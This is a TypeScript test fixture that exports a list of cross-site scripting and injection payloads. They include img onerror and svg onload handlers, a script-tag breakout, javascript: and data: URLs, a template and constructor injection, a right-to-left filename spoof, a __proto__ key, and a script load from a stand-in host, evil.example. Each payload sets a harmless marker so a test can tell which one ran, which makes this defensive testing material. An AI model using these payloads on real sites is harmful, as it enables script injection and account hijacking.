/** What every payload calls when it is run: `window.__pwned` is then what ran. */
const RUN = (name: string) => `window.__pwned='${name}'`

/**
 * Texts that are a script, or a way out of a text, wherever somebody takes them for markup, an address, a template or a
 * piece of a program. None has a control character: those are in `CONTROLS`.
 */
export const PAYLOADS: readonly string[] = [
  `<img src=x onerror=${RUN('img')}>`,
  `"><script>${RUN('script')}</script>`,
  `'"--></title></style></textarea></template><svg onload=${RUN('svg')}>`,
  `javascript:${RUN('url')}//`,
  `data:text/html,<script>${RUN('data')}</script>`,
  `\${${RUN('template')}}{{constructor.constructor("${RUN('braces')}")()}}`,
  `<\${x}><//>\`+${RUN('tick')}+\``,
  `\u202e<b onclick=${RUN('rtl')}>gpj.exe\u202c\u2066\u200b`,
  `<iframe srcdoc="<script>parent.${RUN('frame')}</script>">`,
  `</script><script src=https://evil.example/x.js></script>`,
  `<a href="//evil.example" style="position:fixed;inset:0">${'&lt;i&gt;'}</a>`,
  `__proto__`,
]

/** Where control characters are taken. */
export const CONTROLS = `\u0000\u0007\u001b[31m\u2028\u2029\ufeff${PAYLOADS[0]}`

/** All of them in one. */
export const ALL_PAYLOADS = PAYLOADS.join(' ')
